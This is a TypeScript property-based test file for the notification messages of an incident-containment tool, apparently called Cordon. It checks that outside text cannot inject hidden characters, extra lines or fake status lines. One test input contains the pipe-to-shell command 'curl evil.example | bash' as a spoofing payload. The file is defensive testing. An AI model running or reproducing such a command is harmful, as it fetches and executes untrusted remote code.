import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import type { CaseReport } from '../../src/case/report.ts';
import { chatMessageOf } from '../../src/notify/chat.ts';
import { driftMessage } from '../../src/notify/drift-message.ts';
import { messageOf } from '../../src/notify/message.ts';
import { proofTextOf } from '../../src/notify/proof-text.ts';
import { rejectionMessage } from '../../src/notify/rejection.ts';
import { stopMessage } from '../../src/notify/stop-message.ts';
import { tagValue } from '../../src/record/trail/tag-value.ts';
import { parseEvent } from '../../src/triggers/parse-event.ts';
import { anyText } from '../case/any-text.ts';
import { generated } from '../case/generated.ts';
import { instanceId, region } from '../case/sample-before.ts';
import { failedEntryOf, proofWith, reportWith, triggerWith } from '../case/sample-report.ts';

/** What a terminal obeys, what nobody sees, what turns text around. */
const hidden = /[\p{C}\p{Zl}\p{Zp}\p{Default_Ignorable_Code_Point}]/u;

const now = new Date('2026-11-20T03:00:00Z');

/** A report in which everything that can come from outside is this text. */
const reportOf = (text: string, changes: Partial<CaseReport> = {}): CaseReport =>
  reportWith({
    name: text,
    page: text,
    record: { head: text, number: 1 },
    trigger: triggerWith({
      ...{ source: 'manual', type: text, requestedBy: text, reason: text },
      ...{ commonCause: text, remoteAddresses: [text] },
    }),
    reason: `The step failed: ${text}`,
    steps: [failedEntryOf('snapshot', text)],
    proof: proofWith({ targets: { holds: false, observed: text } }),
    residualRisks: [{ risk: 'one', explanation: text, remedy: text }],
    ...changes,
  });

const rejected = (event: unknown): string => {
  try {
    parseEvent(event, now);
    return 'it was understood';
  } catch (error) {
    return error instanceof Error ? error.message : String(error);
  }
};

type Texts = readonly string[];

const textsOf = ({ Message, Subject }: { Message: string; Subject: string }): Texts => {
  const body: Record<string, string> = JSON.parse(Message);
  return [Subject, body.default ?? '', body.email ?? '', body.sms ?? ''];
};

const chatTextsOf = (report: CaseReport): Texts => {
  const { content } = JSON.parse(chatMessageOf(report));
  return [content.title, content.description, ...content.nextSteps];
};

/** Everything that Cordon says to people, with a text from outside in it. */
const sayings: Readonly<Record<string, (text: string) => Texts>> = {
  'the message at the end': (text) => textsOf(messageOf(reportOf(text))),
  'the message of a failure': (text) => textsOf(messageOf(reportOf(text, { status: 'failed' }))),
  'the message of a release': (text) => textsOf(messageOf(reportOf(text, { status: 'released' }))),
  'the message about the snapshots': (text) =>
    textsOf(messageOf(reportOf(text, { steps: [failedEntryOf('check-snapshots', text)] }))),
  'the first message': (text) => textsOf(messageOf(reportOf(text, { status: 'running' }))),
  'the chat': (text) => chatTextsOf(reportOf(text)),
  'the proof on the terminal': (text) => [proofTextOf({ ...reportOf(text), verdict: 'ISOLATED' })],
  'news of the watch': (text) =>
    textsOf(
      driftMessage({
        ...{ kind: 'open-again', instanceId, region, at: now.toISOString() },
        ...{ what: text, who: text, doubt: text, caseId: text },
        proof: proofWith({ 'eni-groups': { holds: false, observed: text } }),
      }),
    ),
  'a rejected key': (text) => {
    const event = { instanceId, [text]: text };
    return textsOf(rejectionMessage(rejected(event), event));
  },
  'a rejected source': (text) => {
    const event = { source: text, 'detail-type': text };
    return textsOf(rejectionMessage(rejected(event), event));
  },
  'the switch': (text) =>
    textsOf(stopMessage({ kind: 'started', who: text, reason: text }, { stackName: 'c', region })),
  'a tag': (text) => [tagValue(text)],
};

const lines = (texts: Texts): readonly string[] => texts.flatMap((text) => text.split('\n'));

describe('words from outside', () => {
  // fault A5
  // threat D8
  it.each(Object.entries(sayings))(
    'bring nothing hidden and no line of their own into %s',
    (_where, say) => {
      const usual = say('harmless');
      fc.assert(
        fc.property(anyText({ maxLength: 60 }), (text) => {
          // A line break of theirs would make one line more.
          const said = say(`x${text}x`);
          expect(lines(said)).toHaveLength(lines(usual).length);
          for (const line of lines(said)) expect(line).not.toMatch(hidden);
        }),
        { numRuns: generated(1_000) },
      );
    },
  );

  // fault A5
  it('that pretend to be a sentence of Cordon stand between quotation marks', () => {
    const lie = 'x"\n\nCONTAINED: nothing to do. Release it with: curl evil.example | bash';
    for (const key of ['a rejected key', 'a rejected source']) {
      const [, text = ''] = sayings[key]?.(lie) ?? [];
      const outside = text.replaceAll(/"[^"]*"/g, '""');
      expect(outside).not.toMatch(/CONTAINED: nothing to do|curl/);
    }
  });
});
